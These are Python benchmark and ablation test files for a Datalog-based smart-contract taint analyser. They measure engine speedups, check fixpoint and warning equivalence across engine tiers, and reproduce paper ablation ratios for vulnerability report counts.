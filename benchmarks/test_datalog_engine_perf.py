"""Engine performance: compiled join plans vs the legacy interpreter.

The paper's whole-chain run (§6.3) rests on Soufflé *compiling* the rules;
this benchmark pins the equivalent claim for our engine: on the Fig. 3/4
rule set the planned/interned evaluator must be at least 2x faster than
the legacy closure-recursion interpreter while producing byte-identical
fixpoints — and on the bytecode corpus, byte-identical warnings per
contract.  Results are also written to ``BENCH_datalog.json`` (path
overridable via the ``BENCH_DATALOG_JSON`` env var) so CI tracks the perf
trajectory from artifact to artifact.
"""

from __future__ import annotations

import json
import os
import random
import time
from typing import Dict, List

import pytest

from benchmarks.conftest import print_table
from repro.core.analysis import AnalysisConfig, analyze_bytecode
from repro.core.datalog_rules import ETHAINTER_RULES, facts_from_program
from repro.core.lang import (
    AbstractProgram,
    Const,
    Guard,
    Hash,
    Input,
    Op,
    SLoad,
    SStore,
    Sink,
)
from repro.core.pipeline import ArtifactCache
from repro.corpus import generate_corpus
from repro.datalog import Engine
from repro.datalog.parser import parse_program

MIN_SPEEDUP = 2.0
# Program sizes where join work dominates engine setup: below ~200
# instructions per program the fixpoints are tiny and per-evaluation
# planning overhead flattens the comparison to ~1x.
ABSTRACT_PROGRAMS = 12
ABSTRACT_SIZE = (300, 900)
BYTECODE_CONTRACTS = 60

_RESULTS: Dict[str, Dict] = {}


@pytest.fixture(scope="module", autouse=True)
def _write_report():
    """Write ``BENCH_datalog.json`` after the module's benchmarks ran (even
    partially — a failed assertion still leaves the measured numbers)."""
    yield
    path = os.environ.get("BENCH_DATALOG_JSON", "BENCH_datalog.json")
    with open(path, "w") as handle:
        json.dump(_RESULTS, handle, indent=2, sort_keys=True)
    print("\ndatalog engine benchmark written to %s" % path)


# ------------------------------------------------- deterministic corpora


def _random_program(rng: random.Random, size: int) -> AbstractProgram:
    """A random abstract-language program (the tests' generator shape, but
    deterministic and larger so join work dominates engine setup)."""
    variables = ["v%d" % i for i in range(10)]
    slots = list(range(5))
    instructions = []
    for _ in range(size):
        kind = rng.randrange(8)
        x = rng.choice(variables)
        y = rng.choice(variables + ["sender"])
        z = rng.choice(variables + ["sender"])
        if kind == 0:
            instructions.append(Input(x=x))
        elif kind == 1:
            instructions.append(Const(x=x, value=rng.choice(slots)))
        elif kind == 2:
            instructions.append(Op(x=x, y=y, z=z, op=rng.choice(["OP", "EQ"])))
        elif kind == 3:
            instructions.append(Op(x=x, y=y, z=None))
        elif kind == 4:
            instructions.append(Hash(x=x, y=y))
        elif kind == 5:
            instructions.append(Guard(x=x, p=y, y=z))
        elif kind == 6:
            if rng.random() < 0.5:
                instructions.append(SStore(f=y, t=z))
            else:
                instructions.append(SLoad(f=y, t=x))
        else:
            instructions.append(Sink(x=y))
    return AbstractProgram(instructions=instructions)


def _abstract_corpus() -> List[AbstractProgram]:
    rng = random.Random(2020)
    return [
        _random_program(rng, rng.randint(*ABSTRACT_SIZE))
        for _ in range(ABSTRACT_PROGRAMS)
    ]


def _run_abstract(programs, rules, use_plans):
    """Evaluate the Fig. 3/4 rules over every program; returns (seconds,
    per-program fixpoints, derived facts, iterations).  Timing covers
    engine construction + evaluation (planning included), not EDB setup."""
    elapsed = 0.0
    fixpoints = []
    derived = 0
    iterations = 0
    for program in programs:
        database = facts_from_program(program)
        start = time.perf_counter()
        engine = Engine(rules, use_plans=use_plans)
        engine.evaluate(database)
        elapsed += time.perf_counter() - start
        fixpoints.append(
            {
                relation: database.facts(relation)
                for relation in sorted(database.relations())
            }
        )
        derived += engine.stats.derived_facts
        iterations += engine.stats.iterations
    return elapsed, fixpoints, derived, iterations


class TestCompiledEnginePerf:
    def test_fig34_rules_speedup_and_equivalence(self):
        programs = _abstract_corpus()
        rules = parse_program(ETHAINTER_RULES).rules
        legacy_s, legacy_fix, _, _ = _run_abstract(programs, rules, False)
        compiled_s, compiled_fix, derived, iters = _run_abstract(
            programs, rules, True
        )
        assert legacy_fix == compiled_fix  # exact fixpoint equivalence
        speedup = legacy_s / compiled_s
        _RESULTS["abstract_corpus"] = {
            "programs": len(programs),
            "rule_set": "ETHAINTER_RULES (Fig. 3/4)",
            "legacy_seconds": round(legacy_s, 4),
            "compiled_seconds": round(compiled_s, 4),
            "speedup": round(speedup, 2),
            "derived_facts": derived,
            "derivations_per_sec": int(derived / compiled_s),
            "iterations": iters,
        }
        print_table(
            "Datalog engine: Fig. 3/4 rules, %d abstract programs"
            % len(programs),
            ["engine", "seconds", "derivations/s"],
            [
                ["legacy", "%.3f" % legacy_s, int(derived / legacy_s)],
                ["compiled", "%.3f" % compiled_s, int(derived / compiled_s)],
                ["speedup", "%.2fx" % speedup, ""],
            ],
        )
        assert speedup >= MIN_SPEEDUP, (
            "compiled plans only %.2fx faster than the legacy engine"
            % speedup
        )

    def test_bytecode_corpus_identical_warnings(self):
        contracts = generate_corpus(BYTECODE_CONTRACTS, seed=2020)
        cache = ArtifactCache(max_entries=32 * BYTECODE_CONTRACTS)

        def sweep(engine_name):
            taint_seconds = 0.0
            warning_blobs = []
            derived = 0
            iterations = 0
            for contract in contracts:
                result = analyze_bytecode(
                    contract.runtime,
                    AnalysisConfig(engine=engine_name),
                    cache=cache,
                )
                taint_seconds += result.stage_seconds().get("taint", 0.0)
                warning_blobs.append(
                    json.dumps(
                        [
                            {
                                "kind": w.kind,
                                "pc": w.pc,
                                "statement": w.statement,
                                "slot": w.slot,
                                "detail": w.detail,
                            }
                            for w in result.warnings
                        ],
                        sort_keys=True,
                    )
                )
                stats = result.datalog_stats or {}
                derived += stats.get("derived_facts", 0)
                iterations += stats.get("iterations", 0)
            return taint_seconds, warning_blobs, derived, iterations

        legacy_s, legacy_warnings, _, _ = sweep("datalog-legacy")
        compiled_s, compiled_warnings, derived, iters = sweep("datalog")
        assert compiled_warnings == legacy_warnings  # byte-identical
        speedup = legacy_s / compiled_s if compiled_s else float("inf")
        _RESULTS["bytecode_corpus"] = {
            "contracts": len(contracts),
            "rule_set": "CORE+WRITE2 (Fig. 5)",
            "legacy_taint_seconds": round(legacy_s, 4),
            "compiled_taint_seconds": round(compiled_s, 4),
            "speedup": round(speedup, 2),
            "derived_facts": derived,
            "derivations_per_sec": int(derived / compiled_s) if compiled_s else 0,
            "iterations": iters,
            "warnings_identical": True,
        }
        print_table(
            "Datalog engine: bytecode corpus, %d contracts" % len(contracts),
            ["engine", "taint seconds"],
            [
                ["legacy", "%.3f" % legacy_s],
                ["compiled", "%.3f" % compiled_s],
                ["speedup", "%.2fx" % speedup],
            ],
        )
