"""Engine performance: legacy interpreter vs compiled plans vs columnar.

The paper's whole-chain run (§6.3) rests on Soufflé *compiling* the rules;
this benchmark pins the equivalent claims for our engine tiers: on the
Fig. 3/4 rule set the planned/interned evaluator must be at least 2x
faster than the legacy closure-recursion interpreter, and on the bytecode
taint stage (the whole-corpus merged database, where batch joins have
enough rows to amortize) the columnar executor must be at least 1.5x
faster than the compiled engine — all while producing byte-identical
fixpoints, and on the bytecode corpus byte-identical warnings per
contract.  An incremental scenario additionally measures DRed repair
(append facts to an evaluated database) against a cold re-evaluation.
Results are also written to ``BENCH_datalog.json`` (path overridable via
the ``BENCH_DATALOG_JSON`` env var) so CI tracks the perf trajectory from
artifact to artifact.
"""

from __future__ import annotations

import json
import os
import random
import time
from typing import Dict, List

import pytest

from benchmarks.conftest import print_table
from repro.core.analysis import AnalysisConfig, analyze_bytecode
from repro.core.datalog_rules import ETHAINTER_RULES, facts_from_program
from repro.core.lang import (
    AbstractProgram,
    Const,
    Guard,
    Hash,
    Input,
    Op,
    SLoad,
    SStore,
    Sink,
)
from repro.core.pipeline import ArtifactCache
from repro.corpus import generate_corpus
from repro.datalog import Engine
from repro.datalog.parser import parse_program

MIN_SPEEDUP = 2.0
# Columnar vs compiled on the merged bytecode taint database: batch joins
# need enough rows per relation to amortize column materialization, which
# the per-contract fixpoints (a few hundred EDB rows) do not provide —
# the whole-corpus merged database (~30k rows) is the §6-scale shape.
MIN_COLUMNAR_SPEEDUP = 1.5
# Warm DRed repair of a small append vs re-evaluating the merged database
# from scratch (measured ~250x; pinned far below to absorb CI noise).
MIN_REPAIR_SPEEDUP = 5.0
# Program sizes where join work dominates engine setup: below ~200
# instructions per program the fixpoints are tiny and per-evaluation
# planning overhead flattens the comparison to ~1x.
ABSTRACT_PROGRAMS = 12
ABSTRACT_SIZE = (300, 900)
BYTECODE_CONTRACTS = 60

_RESULTS: Dict[str, Dict] = {}


@pytest.fixture(scope="module", autouse=True)
def _write_report():
    """Write ``BENCH_datalog.json`` after the module's benchmarks ran (even
    partially — a failed assertion still leaves the measured numbers)."""
    yield
    path = os.environ.get("BENCH_DATALOG_JSON", "BENCH_datalog.json")
    with open(path, "w") as handle:
        json.dump(_RESULTS, handle, indent=2, sort_keys=True)
    print("\ndatalog engine benchmark written to %s" % path)


# ------------------------------------------------- deterministic corpora


def _random_program(rng: random.Random, size: int) -> AbstractProgram:
    """A random abstract-language program (the tests' generator shape, but
    deterministic and larger so join work dominates engine setup)."""
    variables = ["v%d" % i for i in range(10)]
    slots = list(range(5))
    instructions = []
    for _ in range(size):
        kind = rng.randrange(8)
        x = rng.choice(variables)
        y = rng.choice(variables + ["sender"])
        z = rng.choice(variables + ["sender"])
        if kind == 0:
            instructions.append(Input(x=x))
        elif kind == 1:
            instructions.append(Const(x=x, value=rng.choice(slots)))
        elif kind == 2:
            instructions.append(Op(x=x, y=y, z=z, op=rng.choice(["OP", "EQ"])))
        elif kind == 3:
            instructions.append(Op(x=x, y=y, z=None))
        elif kind == 4:
            instructions.append(Hash(x=x, y=y))
        elif kind == 5:
            instructions.append(Guard(x=x, p=y, y=z))
        elif kind == 6:
            if rng.random() < 0.5:
                instructions.append(SStore(f=y, t=z))
            else:
                instructions.append(SLoad(f=y, t=x))
        else:
            instructions.append(Sink(x=y))
    return AbstractProgram(instructions=instructions)


def _abstract_corpus() -> List[AbstractProgram]:
    rng = random.Random(2020)
    return [
        _random_program(rng, rng.randint(*ABSTRACT_SIZE))
        for _ in range(ABSTRACT_PROGRAMS)
    ]


def _run_abstract(programs, rules, use_plans, columnar=None):
    """Evaluate the Fig. 3/4 rules over every program; returns (seconds,
    per-program fixpoints, derived facts, iterations).  Timing covers
    engine construction + evaluation (planning included), not EDB setup."""
    elapsed = 0.0
    fixpoints = []
    derived = 0
    iterations = 0
    for program in programs:
        database = facts_from_program(program)
        start = time.perf_counter()
        engine = Engine(rules, use_plans=use_plans, columnar=columnar)
        engine.evaluate(database)
        elapsed += time.perf_counter() - start
        fixpoints.append(
            {
                relation: database.facts(relation)
                for relation in sorted(database.relations())
            }
        )
        derived += engine.stats.derived_facts
        iterations += engine.stats.iterations
    return elapsed, fixpoints, derived, iterations


class TestCompiledEnginePerf:
    def test_fig34_rules_speedup_and_equivalence(self):
        programs = _abstract_corpus()
        rules = parse_program(ETHAINTER_RULES).rules
        legacy_s, legacy_fix, _, _ = _run_abstract(programs, rules, False)
        compiled_s, compiled_fix, derived, iters = _run_abstract(
            programs, rules, True
        )
        columnar_s, columnar_fix, _, _ = _run_abstract(
            programs, rules, True, columnar=True
        )
        assert legacy_fix == compiled_fix  # exact fixpoint equivalence
        assert columnar_fix == compiled_fix
        speedup = legacy_s / compiled_s
        _RESULTS["abstract_corpus"] = {
            "programs": len(programs),
            "rule_set": "ETHAINTER_RULES (Fig. 3/4)",
            "legacy_seconds": round(legacy_s, 4),
            "compiled_seconds": round(compiled_s, 4),
            "columnar_seconds": round(columnar_s, 4),
            "speedup": round(speedup, 2),
            "columnar_speedup": round(compiled_s / columnar_s, 2),
            "derived_facts": derived,
            "derivations_per_sec": int(derived / compiled_s),
            "iterations": iters,
        }
        print_table(
            "Datalog engine: Fig. 3/4 rules, %d abstract programs"
            % len(programs),
            ["engine", "seconds", "derivations/s"],
            [
                ["legacy", "%.3f" % legacy_s, int(derived / legacy_s)],
                ["compiled", "%.3f" % compiled_s, int(derived / compiled_s)],
                ["columnar", "%.3f" % columnar_s, int(derived / columnar_s)],
                ["compiled speedup", "%.2fx" % speedup, ""],
            ],
        )
        assert speedup >= MIN_SPEEDUP, (
            "compiled plans only %.2fx faster than the legacy engine"
            % speedup
        )

    def test_bytecode_corpus_identical_warnings(self):
        contracts = generate_corpus(BYTECODE_CONTRACTS, seed=2020)
        cache = ArtifactCache(max_entries=32 * BYTECODE_CONTRACTS)

        def sweep(engine_name):
            taint_seconds = 0.0
            warning_blobs = []
            derived = 0
            iterations = 0
            for contract in contracts:
                result = analyze_bytecode(
                    contract.runtime,
                    AnalysisConfig(engine=engine_name),
                    cache=cache,
                )
                taint_seconds += result.stage_seconds().get("taint", 0.0)
                warning_blobs.append(
                    json.dumps(
                        [
                            {
                                "kind": w.kind,
                                "pc": w.pc,
                                "statement": w.statement,
                                "slot": w.slot,
                                "detail": w.detail,
                            }
                            for w in result.warnings
                        ],
                        sort_keys=True,
                    )
                )
                stats = result.datalog_stats or {}
                derived += stats.get("derived_facts", 0)
                iterations += stats.get("iterations", 0)
            return taint_seconds, warning_blobs, derived, iterations

        legacy_s, legacy_warnings, _, _ = sweep("datalog-legacy")
        compiled_s, compiled_warnings, derived, iters = sweep("datalog")
        columnar_s, columnar_warnings, _, _ = sweep("datalog-columnar")
        assert compiled_warnings == legacy_warnings  # byte-identical
        assert columnar_warnings == compiled_warnings
        speedup = legacy_s / compiled_s if compiled_s else float("inf")
        _RESULTS["bytecode_corpus"] = {
            "contracts": len(contracts),
            "rule_set": "CORE+WRITE2 (Fig. 5)",
            "legacy_taint_seconds": round(legacy_s, 4),
            "compiled_taint_seconds": round(compiled_s, 4),
            "columnar_taint_seconds": round(columnar_s, 4),
            "speedup": round(speedup, 2),
            "derived_facts": derived,
            "derivations_per_sec": int(derived / compiled_s) if compiled_s else 0,
            "iterations": iters,
            "warnings_identical": True,
        }
        print_table(
            "Datalog engine: bytecode corpus, %d contracts" % len(contracts),
            ["engine", "taint seconds"],
            [
                ["legacy", "%.3f" % legacy_s],
                ["compiled", "%.3f" % compiled_s],
                ["columnar", "%.3f" % columnar_s],
                ["compiled speedup", "%.2fx" % speedup],
            ],
        )


# ---------------------------------------------- merged whole-corpus stage


def _merged_corpus_edb():
    """The bytecode taint stage at §6 scale: every corpus contract's EDB
    merged into one database, idents namespaced per contract so the merge
    is a disjoint union (per-contract fixpoints, one evaluation)."""
    from repro.core.bytecode_datalog import _facts_to_edb
    from repro.core.facts import extract_facts
    from repro.core.guards import build_guard_model
    from repro.core.storage_model import build_storage_model
    from repro.core.taint import TaintOptions
    from repro.decompiler import lift

    options = TaintOptions()
    merged: List[Dict] = []
    for position, contract in enumerate(generate_corpus(BYTECODE_CONTRACTS, seed=2020)):
        facts = extract_facts(lift(contract.runtime))
        storage = build_storage_model(facts)
        guards = build_guard_model(facts, storage)
        edb = _facts_to_edb(facts, storage, guards, options)
        tag = "c%d" % position
        merged.append(
            {
                relation: {
                    tuple(
                        "%s/%s" % (tag, value)
                        if isinstance(value, str)
                        else "%s#%d" % (tag, value)
                        for value in fact
                    )
                    for fact in rows
                }
                for relation, rows in edb.items()
            }
        )
    return merged


def _load_merged(edbs, extra=None):
    from repro.datalog import Database

    database = Database()
    for edb in edbs:
        for relation, rows in edb.items():
            database.add_all(relation, rows)
    if extra:
        for relation, rows in extra.items():
            database.add_all(relation, rows)
    return database


def _taint_rules():
    from repro.core.bytecode_datalog import _rules
    from repro.core.taint import TaintOptions

    return _rules(TaintOptions())


class TestColumnarEnginePerf:
    def test_merged_taint_stage_columnar_speedup(self):
        """Columnar vs compiled on the whole-corpus taint database:
        byte-identical fixpoints, >= MIN_COLUMNAR_SPEEDUP pinned."""
        merged = _merged_corpus_edb()
        rules = _taint_rules()

        def run(columnar):
            best = float("inf")
            snapshot = None
            derived = 0
            for _ in range(3):
                database = _load_merged(merged)
                start = time.perf_counter()
                engine = Engine(rules, columnar=columnar)
                engine.evaluate(database)
                best = min(best, time.perf_counter() - start)
                snapshot = {
                    relation: database.facts(relation)
                    for relation in sorted(database.relations())
                }
                derived = engine.stats.derived_facts
            return best, snapshot, derived

        compiled_s, compiled_fix, derived = run(False)
        columnar_s, columnar_fix, _ = run(True)
        assert columnar_fix == compiled_fix  # byte-identical fixpoints
        speedup = compiled_s / columnar_s
        rows = sum(len(rows) for edb in merged for rows in edb.values())
        _RESULTS["bytecode_taint_merged"] = {
            "contracts": BYTECODE_CONTRACTS,
            "edb_rows": rows,
            "rule_set": "CORE+WRITE2 (Fig. 5)",
            "compiled_seconds": round(compiled_s, 4),
            "columnar_seconds": round(columnar_s, 4),
            "columnar_speedup": round(speedup, 2),
            "derived_facts": derived,
            "fixpoints_identical": True,
        }
        print_table(
            "Datalog engine: merged taint stage, %d contracts / %d EDB rows"
            % (BYTECODE_CONTRACTS, rows),
            ["engine", "seconds"],
            [
                ["compiled", "%.3f" % compiled_s],
                ["columnar", "%.3f" % columnar_s],
                ["speedup", "%.2fx" % speedup],
            ],
        )
        assert speedup >= MIN_COLUMNAR_SPEEDUP, (
            "columnar executor only %.2fx faster than compiled plans on "
            "the merged taint stage" % speedup
        )

    def test_incremental_repair_vs_cold(self):
        """Append facts to an evaluated database: DRed repair must match
        the cold fixpoint and beat re-evaluation once plans are warm."""
        merged = _merged_corpus_edb()
        rules = _taint_rules()
        statement = sorted(merged[0]["Stmt"])[0][0]
        flows = sorted(merged[0]["Infoflow"])[:8]
        additions = {
            "Infoflow": {
                ("c0/bench-src%d" % k, destination, stmt)
                for k, (_, destination, stmt) in enumerate(flows)
            },
            "CALLDATALOAD": {(statement, "c0/bench-src0")},
        }

        database = _load_merged(merged)
        engine = Engine(rules, columnar=True)
        engine.evaluate(database)
        start = time.perf_counter()
        engine.apply_changes(additions=additions)
        first_repair = time.perf_counter() - start

        # Second append exercises the warm path (incremental plans built).
        second = {
            "Infoflow": {("c1/bench-x", "c1/bench-y", sorted(merged[1]["Stmt"])[0][0])}
        }
        start = time.perf_counter()
        engine.apply_changes(additions=second)
        warm_repair = time.perf_counter() - start

        cold_db = _load_merged(merged, extra=additions)
        for relation, rows in second.items():
            cold_db.add_all(relation, rows)
        cold_engine = Engine(rules, columnar=True)
        start = time.perf_counter()
        cold_engine.evaluate(cold_db)
        cold_seconds = time.perf_counter() - start

        relations = set(database.relations()) | set(cold_db.relations())
        assert all(
            database.facts(relation) == cold_db.facts(relation)
            for relation in relations
        )  # repaired fixpoint == cold fixpoint
        warm_speedup = cold_seconds / warm_repair if warm_repair else float("inf")
        _RESULTS["incremental_repair"] = {
            "contracts": BYTECODE_CONTRACTS,
            "appended_facts": sum(len(rows) for rows in additions.values())
            + sum(len(rows) for rows in second.values()),
            "first_repair_seconds": round(first_repair, 4),
            "warm_repair_seconds": round(warm_repair, 4),
            "cold_seconds": round(cold_seconds, 4),
            "warm_repair_speedup": round(warm_speedup, 2),
            "fixpoints_identical": True,
        }
        print_table(
            "Datalog engine: DRed repair vs cold fixpoint (%d contracts)"
            % BYTECODE_CONTRACTS,
            ["scenario", "seconds"],
            [
                ["cold evaluate", "%.3f" % cold_seconds],
                ["first repair (plan compile)", "%.3f" % first_repair],
                ["warm repair", "%.4f" % warm_repair],
                ["warm speedup", "%.1fx" % warm_speedup],
            ],
        )
        assert warm_speedup >= MIN_REPAIR_SPEEDUP, (
            "warm DRed repair only %.2fx faster than a cold fixpoint"
            % warm_speedup
        )
