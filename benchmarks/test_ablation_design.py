"""Ablations for this reproduction's own design choices (DESIGN.md).

Two decisions beyond the paper's Figure 8 knobs deserve measurement:

1. **Context-sensitive decompilation** (the Gigahorse insight the paper
   leans on, §1/§5): cloning blocks per constant-stack context resolves the
   push-return-address calling convention.  Collapsing clones (the
   context-INsensitive configuration) leaves return jumps unresolved, which
   cascades into the analysis.
2. **Declarative vs. imperative fixpoint**: the paper runs Datalog compiled
   to C++ by Soufflé; we keep a declarative rule set
   (`repro.core.bytecode_datalog`) cross-checked against a hand-written
   Python fixpoint and measure the interpretation overhead that motivates
   exactly the Soufflé-style compilation the paper uses.
"""

import time

from benchmarks.conftest import print_table
from repro.core.bytecode_datalog import analyze_with_datalog
from repro.core.facts import extract_facts
from repro.core.guards import build_guard_model
from repro.core.storage_model import build_storage_model
from repro.core.taint import TaintAnalysis
from repro.decompiler import lift
from repro.minisol import compile_source

INTERNAL_CALL_HEAVY = """
contract Heavy {
    uint256 acc;
    function h(uint256 x) internal returns (uint256) { return x + 1; }
    function g(uint256 x) internal returns (uint256) { return h(x) + h(x + 1); }
    function a() public returns (uint256) { return g(1); }
    function b() public returns (uint256) { return g(2) + h(9); }
    function c() public returns (uint256) { return g(3); }
}
"""


def test_context_sensitivity_resolves_returns(benchmark, corpus):
    runtime = compile_source(INTERNAL_CALL_HEAVY).runtime

    def both():
        sensitive = lift(runtime)
        collapsed = lift(runtime, max_clones=1)
        return sensitive, collapsed

    sensitive, collapsed = benchmark.pedantic(both, rounds=1, iterations=1)

    corpus_unresolved_sensitive = 0
    corpus_unresolved_collapsed = 0
    for contract in corpus[:80]:
        corpus_unresolved_sensitive += len(lift(contract.runtime).unresolved_jumps)
        corpus_unresolved_collapsed += len(
            lift(contract.runtime, max_clones=1).unresolved_jumps
        )

    print_table(
        "decompiler context sensitivity",
        ["configuration", "unresolved jumps (Heavy)", "unresolved (80-contract corpus)", "blocks (Heavy)"],
        [
            (
                "context-sensitive (default)",
                len(sensitive.unresolved_jumps),
                corpus_unresolved_sensitive,
                len(sensitive.blocks),
            ),
            (
                "collapsed clones",
                len(collapsed.unresolved_jumps),
                corpus_unresolved_collapsed,
                len(collapsed.blocks),
            ),
        ],
    )

    assert sensitive.unresolved_jumps == []
    assert corpus_unresolved_sensitive == 0
    # Without context cloning, shared-callee return jumps become symbolic.
    assert len(collapsed.unresolved_jumps) > 0


def test_declarative_vs_imperative_fixpoint(benchmark, corpus):
    contract = next(c for c in corpus if c.template == "composite_victim")
    facts = extract_facts(lift(contract.runtime))
    storage = build_storage_model(facts)
    guards = build_guard_model(facts, storage)

    started = time.monotonic()
    python_result = TaintAnalysis(facts, storage, guards).run()
    python_time = time.monotonic() - started

    def declarative():
        return analyze_with_datalog(facts=facts, storage=storage, guards=guards)

    datalog_result = benchmark(declarative)
    started = time.monotonic()
    analyze_with_datalog(facts=facts, storage=storage, guards=guards)
    datalog_time = time.monotonic() - started

    print_table(
        "fixpoint engines on the composite Victim",
        ["engine", "seconds", "tainted slots", "compromised guards"],
        [
            (
                "python fixpoint",
                "%.4f" % python_time,
                len(python_result.tainted_slots),
                len(python_result.compromised_guards),
            ),
            (
                "datalog engine",
                "%.4f" % datalog_time,
                len(datalog_result.tainted_slots),
                len(datalog_result.compromised_guards),
            ),
        ],
    )

    # Same answers, whatever the engine.
    assert python_result.tainted_slots == datalog_result.tainted_slots
    assert python_result.compromised_guards == datalog_result.compromised_guards
    assert python_result.reachable == datalog_result.reachable
