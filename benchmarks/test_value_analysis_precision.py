"""Value-set stratum precision: the soundness-preserving-shrink property.

The value-analysis configuration may only *remove* warnings relative to the
default configuration (it resolves computed storage indices that the
StorageWrite-2 rule otherwise smears over every known slot), and must
actually remove some on the computed-index templates it was built for.
With the flag off, behavior must be identical to the default pipeline.
"""

import pytest

from benchmarks.conftest import print_table
from repro.core import AnalysisConfig, analyze_bytecode


@pytest.fixture(scope="session")
def analyzed_value(corpus, prefix_cache):
    """Value-analysis-configuration results for the whole corpus."""
    from benchmarks.conftest import _analyze_corpus

    return _analyze_corpus(
        corpus, AnalysisConfig(value_analysis=True), cache=prefix_cache
    )


def _warning_keys(result):
    return {(w.kind, w.slot) for w in result.warnings}


def test_warnings_subset_per_contract(corpus, analyzed, analyzed_value):
    """Per contract: warnings(value-analysis) ⊆ warnings(default)."""
    shrunk = []
    for contract in corpus:
        default_keys = _warning_keys(analyzed.results[contract.index])
        value_keys = _warning_keys(analyzed_value.results[contract.index])
        assert value_keys <= default_keys, (
            contract.template,
            value_keys - default_keys,
        )
        if value_keys < default_keys:
            shrunk.append(contract)

    by_template = {}
    for contract in shrunk:
        by_template[contract.template] = by_template.get(contract.template, 0) + 1
    print_table(
        "Value-set stratum — contracts with strictly fewer warnings",
        ["template", "contracts shrunk"],
        sorted(by_template.items()),
    )

    # The stratum must earn its keep: a strict shrink on at least one
    # computed-index template instance.
    assert any(c.template == "computed_flag_write" for c in shrunk)


def test_computed_index_template_fully_resolved(corpus, analyzed_value):
    """Every computed_flag_write instance is warning-free under the value
    configuration (its index set {0, 1} never reaches the owner slot)."""
    instances = [c for c in corpus if c.template == "computed_flag_write"]
    assert instances  # the corpus exercises the template
    for contract in instances:
        assert analyzed_value.results[contract.index].warnings == []


def test_flag_off_is_identical_to_default(corpus, analyzed):
    """AnalysisConfig(value_analysis=False) is the default — re-running a
    sample fresh (no shared cache) must reproduce the default warnings
    exactly, byte for byte."""
    for contract in corpus[:40]:
        fresh = analyze_bytecode(
            contract.runtime, AnalysisConfig(value_analysis=False)
        )
        cached = analyzed.results[contract.index]
        assert [
            (w.kind, w.pc, w.statement, w.slot, w.detail) for w in fresh.warnings
        ] == [
            (w.kind, w.pc, w.statement, w.slot, w.detail) for w in cached.warnings
        ], contract.template


def test_precision_counters_aggregate(corpus, analyzed, analyzed_value):
    """The sweep-level precision counters move the right way: the value
    configuration resolves indices the default leaves unresolved."""
    def totals(analyzed_corpus):
        resolved = unresolved = tracked = 0
        for result in analyzed_corpus.results.values():
            resolved += result.precision.resolved_store_indices
            unresolved += result.precision.unresolved_store_indices
            tracked += result.precision.value_tracked_vars
        return resolved, unresolved, tracked

    default_resolved, default_unresolved, default_tracked = totals(analyzed)
    value_resolved, value_unresolved, value_tracked = totals(analyzed_value)

    print_table(
        "Precision counters — default vs value-analysis configuration",
        ["configuration", "resolved stores", "unresolved stores", "tracked vars"],
        [
            ("default", default_resolved, default_unresolved, default_tracked),
            ("value-analysis", value_resolved, value_unresolved, value_tracked),
        ],
    )

    assert default_tracked == 0
    assert value_tracked > 0
    assert value_resolved > default_resolved
    assert value_unresolved < default_unresolved
