"""Figure 8: effect of the analysis design decisions, as report-count
ratios normalized to the default configuration.

Paper values (ratio of reports vs. the tuned default):

  8a  No storage modeling (completeness drops):
        tainted selfdestruct 0.44, tainted owner 0.75,
        unchecked staticcall 0.75, tainted delegatecall 0.69
  8b  No guard modeling (precision collapses):
        tainted selfdestruct 21.31, tainted owner 26.34,
        unchecked staticcall 3.5, tainted delegatecall 2.0
  8c  Conservative storage modeling (precision drops):
        tainted selfdestruct 2.51, tainted owner 3.08,
        unchecked staticcall 1.13, tainted delegatecall 2.0 (approx.)

Shape to reproduce: 8a pushes every ratio to <= 1 (multi-transaction chains
are lost, with tainted-selfdestruct hit hardest); 8b and 8c push ratios
to >= 1 (more reports, overwhelmingly false positives), with the guard
ablation the most explosive for the selfdestruct/owner classes.
"""

from benchmarks.conftest import print_table
from repro.core.vulnerabilities import (
    TAINTED_DELEGATECALL,
    TAINTED_OWNER,
    TAINTED_SELFDESTRUCT,
    UNCHECKED_STATICCALL,
)

FIG8_KINDS = (
    TAINTED_SELFDESTRUCT,
    TAINTED_OWNER,
    UNCHECKED_STATICCALL,
    TAINTED_DELEGATECALL,
)

PAPER_RATIOS = {
    "no-storage": {
        TAINTED_SELFDESTRUCT: 0.44,
        TAINTED_OWNER: 0.75,
        UNCHECKED_STATICCALL: 0.75,
        TAINTED_DELEGATECALL: 0.69,
    },
    "no-guards": {
        TAINTED_SELFDESTRUCT: 21.31,
        TAINTED_OWNER: 26.34,
        UNCHECKED_STATICCALL: 3.5,
        TAINTED_DELEGATECALL: 2.0,
    },
    "conservative": {
        TAINTED_SELFDESTRUCT: 2.51,
        TAINTED_OWNER: 3.08,
        UNCHECKED_STATICCALL: 1.13,
        TAINTED_DELEGATECALL: 2.0,
    },
}


def _counts(analyzed_corpus):
    return {
        kind: len(analyzed_corpus.flagged(kind))
        for kind in FIG8_KINDS
    }


def _ratios(baseline_counts, ablated_counts):
    ratios = {}
    for kind in FIG8_KINDS:
        baseline = baseline_counts[kind]
        ratios[kind] = (ablated_counts[kind] / baseline) if baseline else float("nan")
    return ratios


def _print(name, ratios, counts, baseline_counts):
    print_table(
        "Figure 8%s — %s" % ({"no-storage": "a", "no-guards": "b", "conservative": "c"}[name], name),
        ["vulnerability", "paper ratio", "measured ratio", "reports (default -> ablated)"],
        [
            (
                kind,
                PAPER_RATIOS[name][kind],
                "%.2f" % ratios[kind],
                "%d -> %d" % (baseline_counts[kind], counts[kind]),
            )
            for kind in FIG8_KINDS
        ],
    )


def test_fig8a_no_storage_modeling(benchmark, analyzed, analyzed_no_storage):
    baseline = _counts(analyzed)
    counts = benchmark.pedantic(
        lambda: _counts(analyzed_no_storage), rounds=1, iterations=1
    )
    ratios = _ratios(baseline, counts)
    _print("no-storage", ratios, counts, baseline)
    # Completeness drop: never MORE reports, and the storage-mediated
    # classes lose reports outright.
    for kind in FIG8_KINDS:
        if baseline[kind]:
            assert ratios[kind] <= 1.0
    assert ratios[TAINTED_SELFDESTRUCT] < 1.0
    assert ratios[TAINTED_OWNER] < 1.0


def test_fig8b_no_guard_modeling(benchmark, analyzed, analyzed_no_guards):
    baseline = _counts(analyzed)
    counts = benchmark.pedantic(
        lambda: _counts(analyzed_no_guards), rounds=1, iterations=1
    )
    ratios = _ratios(baseline, counts)
    _print("no-guards", ratios, counts, baseline)
    # Precision collapse: never FEWER reports, selfdestruct class inflates
    # the most (every owner-guarded payout address now "tainted").
    for kind in FIG8_KINDS:
        if baseline[kind]:
            assert ratios[kind] >= 1.0
    assert ratios[TAINTED_SELFDESTRUCT] > 1.5
    assert counts[TAINTED_OWNER] >= baseline[TAINTED_OWNER]


def test_fig8c_conservative_storage(benchmark, analyzed, analyzed_conservative):
    baseline = _counts(analyzed)
